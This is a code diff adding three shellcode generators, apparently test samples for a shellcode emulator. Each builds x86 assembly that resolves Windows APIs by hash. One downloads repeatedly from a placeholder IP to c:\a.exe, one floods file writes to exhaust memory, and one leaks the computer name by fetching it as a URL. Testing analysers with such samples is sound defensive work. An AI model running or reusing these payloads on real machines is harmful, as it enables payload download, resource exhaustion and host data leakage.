@@ -234,3 +234,49 @@ def xor_jmp_call_pop(payload: bytes, key: int = 0x3C) -> bytes:
         "getpc:\n"
         "    call start\n")
     return stub + bytes(b ^ key for b in payload)
+
+
+def url_flood(url: str = "http://203.0.113.9/00000") -> str:
+    """URLDownloadToFileA for ever, the URL's trailing decimal counter bumped each time:
+    a new offer per call unless the findings are capped."""
+    return (
+        "start:\n    cld\n    jmp get_data\nback:\n    pop esi\n    jmp main\n"
+        "get_data:\n    call back\n" + _string_bytes(url, "c:\\a.exe") +
+        "main:\n    push 0x00006e6f\n    push 0x6d6c7275\n    push esp\n" + _api("LoadLibraryA") +
+        f"    push {ror13('URLDownloadToFileA'):#x}\n    call find_api\n    mov ebx, eax\n"
+        "    mov edi, esi\n    xor eax, eax\n    or ecx, -1\n    repne scasb\n"
+        "again:\n    xor eax, eax\n    push eax\n    push eax\n    push edi\n    push esi\n"
+        "    push eax\n    call ebx\n    lea edx, [edi - 2]\n"
+        "bump:\n    inc byte ptr [edx]\n    cmp byte ptr [edx], 0x3a\n    jne again\n"
+        "    mov byte ptr [edx], 0x30\n    dec edx\n    jmp bump\n" + FIND_API)
+
+
+def write_flood(size: int = 0x100000) -> str:
+    """VirtualAlloc(size), CreateFileA("c:\\x"), then WriteFile(size bytes) for ever: the
+    emulator keeps what is written, so memory grows by `size` a call."""
+    return (
+        "start:\n    cld\n    call next\nnext:\n    pop ebp\n"
+        f"    push 0x40\n    push 0x3000\n    push {size:#x}\n    push 0\n" +
+        _api("VirtualAlloc") + "    mov esi, eax\n    push 0\n    push 0x785c3a63\n"
+        "    mov edi, esp\n    push 0\n    push 0x80\n    push 2\n    push 0\n    push 0\n"
+        "    push 0x40000000\n    push edi\n" + _api("CreateFileA") + "    mov ebx, eax\n"
+        f"    push {ror13('WriteFile'):#x}\n    call find_api\n    mov ebp, eax\n"
+        "    sub esp, 8\n    mov edi, esp\n"
+        f"again:\n    push 0\n    push edi\n    push {size:#x}\n    push esi\n    push ebx\n"
+        "    call ebp\n    jmp again\n" + FIND_API)
+
+
+def computer_name_url() -> str:
+    """GetComputerNameA into a buffer that starts "http://", then URLDownloadToFileA of
+    it: what the emulated machine calls itself reaches a URL the shellcode fetches."""
+    return (
+        "start:\n    cld\n    call next\nnext:\n    pop ebp\n"
+        "    push 0x00006e6f\n    push 0x6d6c7275\n    push esp\n" + _api("LoadLibraryA") +
+        "    sub esp, 0x100\n    mov esi, esp\n"
+        "    mov dword ptr [esi], 0x70747468\n    mov dword ptr [esi + 4], 0x002f2f3a\n"
+        "    push 0x40\n    mov eax, esp\n    push eax\n    lea eax, [esi + 7]\n    push eax\n" +
+        _api("GetComputerNameA") +
+        "    push 0\n    push 0x615c3a63\n    mov edi, esp\n"
+        "    xor eax, eax\n    push eax\n    push eax\n    push edi\n    push esi\n"
+        "    push eax\n" + _api("URLDownloadToFileA") +
+        "    push 0\n" + _api("ExitProcess") + FIND_API)
